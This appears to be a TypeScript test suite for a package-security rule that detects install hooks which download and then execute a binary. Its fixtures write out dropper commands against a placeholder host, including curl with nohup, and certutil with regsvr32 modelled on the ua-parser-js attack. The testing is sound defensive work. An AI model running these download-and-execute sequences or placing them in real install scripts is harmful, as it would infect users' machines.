import { describe, expect, it } from 'vitest';
import type { CodeFact } from '../../analysis/types.js';
import { at, call, fileStats, packageFacts } from '../rule-test-kit.js';
import { installScriptShellDropper as rule } from './install-script-shell-dropper.js';

const lines = (file: string, api: string, ...commands: string[]): CodeFact[] =>
  commands.map((command, i) => call(api, 'process', at(file, i + 1), [command]));

const run = (installScripts: Record<string, string>, code: CodeFact[], extraFiles: string[] = []) =>
  rule.run(
    packageFacts({
      manifest: { installScripts },
      code,
      files: [...new Set([...code.map((c) => c.at.file), ...extraFiles])].map((f) => fileStats(f)),
    }),
  );

const linuxLeg = lines(
  'preinstall.sh',
  'sh',
  'curl -s http://x.invalid/linux -o jsextension',
  'chmod +x jsextension',
  'nohup ./jsextension --background &',
);
const windowsLeg = lines(
  'preinstall.bat',
  'cmd',
  'certutil.exe -urlcache -f http://x.invalid/w a.exe',
  'regsvr32.exe /s create.dll',
);

describe('install-script-shell-dropper', () => {
  it('is critical/high for a script the hook runs that downloads then executes', () => {
    expect(run({ preinstall: 'sh preinstall.sh' }, linuxLeg)).toMatchObject([
      { severity: 'critical', confidence: 'high', source: { line: 1 }, sink: { line: 2 } },
    ]);
  });

  it('follows scripts named by the install-time JS file (ua-parser-js: node preinstall.js → preinstall.bat)', () => {
    const js = call('child_process.spawn', 'process', at('preinstall.js', 3), [
      'cmd.exe',
      '/c',
      '*/preinstall.bat',
    ]);
    expect(run({ preinstall: 'node preinstall.js' }, [js, ...windowsLeg])).toHaveLength(1);
  });

  it('is silent for scripts not tied to install time (playwright ships browser installer scripts)', () => {
    const ps = lines(
      'bin/reinstall.ps1',
      'powershell',
      '$wc.Downloadfile($url, $msi)',
      'Start-Process msiexec.exe',
    );
    expect(run({}, ps)).toEqual([]);
    expect(
      run({ postinstall: 'node install.js' }, [
        ...ps,
        call('fs.readFileSync', 'filesystem-read', at('install.js')),
      ]),
    ).toEqual([]);
  });

  it('is silent for an install script that only downloads, or only runs', () => {
    expect(
      run(
        { install: 'sh fetch.sh' },
        lines('fetch.sh', 'sh', 'curl -fsSL https://x.invalid/a.tgz -o a.tgz', 'tar xzf a.tgz'),
      ),
    ).toEqual([]);
    expect(
      run({ install: 'sh build.sh' }, lines('build.sh', 'sh', 'chmod +x ./configure', './configure', 'make')),
    ).toEqual([]);
  });

  it('grades a download then ./configure high/medium, and medium/low after a checksum check', () => {
    const build = [
      'curl -L https://x.invalid/zmq.tar.gz -o zmq.tar.gz',
      'tar xzf zmq.tar.gz',
      './configure',
      'make',
    ];
    expect(run({ install: 'sh build.sh' }, lines('build.sh', 'sh', ...build))).toMatchObject([
      { severity: 'high', confidence: 'medium' },
    ]);
    const checked = [build[0]!, 'sha256sum -c zmq.sha256', ...build.slice(1)];
    expect(run({ install: 'sh build.sh' }, lines('build.sh', 'sh', ...checked))).toMatchObject([
      { severity: 'medium', confidence: 'low' },
    ]);
  });

  it('needs the execution after the download', () => {
    expect(
      run({ install: 'sh x.sh' }, lines('x.sh', 'sh', './prepare.sh', 'curl -s https://x.invalid/a -o a')),
    ).toEqual([]);
  });
});
